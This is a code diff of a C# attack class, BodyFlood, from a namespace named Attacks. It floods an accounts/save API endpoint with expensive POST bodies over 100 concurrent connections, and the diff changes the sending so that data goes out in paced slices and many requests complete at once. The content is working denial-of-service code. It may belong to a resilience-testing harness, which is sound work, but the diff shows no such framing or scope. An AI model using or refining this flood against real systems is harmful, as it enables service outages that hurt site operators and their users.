@@ -1,41 +1,43 @@
-using System.Diagnostics;
+using System.Globalization;
 using System.Net.Sockets;
 using System.Text;
 
 namespace Attacks;
 
-/// <summary>Sends one expensive body after the other, all connections together at a fixed rate, and waits for each answer.</summary>
-internal sealed class BodyFlood(string name, string description, Body body) : Attack(name, 100, description)
+/// <summary>
+/// Sends one expensive body after the other and waits for each answer. All connections send at the same fixed rate, so that many
+/// bodies are complete at the same moment.
+/// </summary>
+internal sealed class BodyFlood(string name, string description, Body body) : Attack(name, FloodConnections, description)
 {
-    private const double BytesPerSecond = 800_000;
+    private const int FloodConnections = 100;
+    private const int BytesPerSecond = 800_000;
+
+    private static readonly TimeSpan _pause = TimeSpan.FromMilliseconds(100);
 
     private byte[] _request = [];
-    private long _interval;
-    private long _nextSlot;
 
     protected override Task PrepareAsync(Target target, CancellationToken ct)
     {
         _request = Encoding.UTF8.GetBytes(
             $"POST {Api}accounts/save{body.Query} HTTP/1.1\r\nHost: {target.Server.Authority}\r\nContent-Type: {body.MediaType}\r\n"
             + $"Content-Length: {Encoding.UTF8.GetByteCount(body.Text)}\r\n\r\n{body.Text}");
-        _interval = (long)(_request.Length / BytesPerSecond * Stopwatch.Frequency);
-        _nextSlot = Stopwatch.GetTimestamp();
         return Task.CompletedTask;
     }
 
     protected override async Task UseConnectionAsync(Socket socket, CancellationToken ct)
     {
         var buffer = new byte[16 * 1024];
-        while (true)
+        var part = (int)(BytesPerSecond * _pause.TotalSeconds / FloodConnections);
+        do
         {
-            var wait = Stopwatch.GetElapsedTime(Stopwatch.GetTimestamp(), Interlocked.Add(ref _nextSlot, _interval));
-            if (wait > TimeSpan.Zero)
-                await Task.Delay(wait, ct);
             for (var sent = 0; sent < _request.Length;)
-                sent += await socket.SendAsync(_request.AsMemory(sent), SocketFlags.None, ct);
-            if (!await ReadAnswerAsync(socket, buffer, ct))
-                return;
+            {
+                sent += await socket.SendAsync(_request.AsMemory(sent, Math.Min(part, _request.Length - sent)), SocketFlags.None, ct);
+                await Task.Delay(_pause, ct);
+            }
         }
+        while (await ReadAnswerAsync(socket, buffer, ct));
     }
 
     /// <returns>Whether the connection may be used again.</returns>
@@ -63,7 +65,7 @@ internal sealed class BodyFlood(string name, string description, Body body) : At
         if (lengthAt < 0 || text.Contains("connection: close", StringComparison.OrdinalIgnoreCase))
             return false;
         var digits = text.AsSpan(lengthAt + LengthHeader.Length);
-        var left = int.Parse(digits[..digits.IndexOf('\r')], System.Globalization.CultureInfo.InvariantCulture) - (text.Length - headEnd - 4);
+        var left = int.Parse(digits[..digits.IndexOf('\r')], CultureInfo.InvariantCulture) - (text.Length - headEnd - 4);
         while (left > 0)
         {
             var received = await socket.ReceiveAsync(buffer.AsMemory(0, Math.Min(left, buffer.Length)), SocketFlags.None, ct);
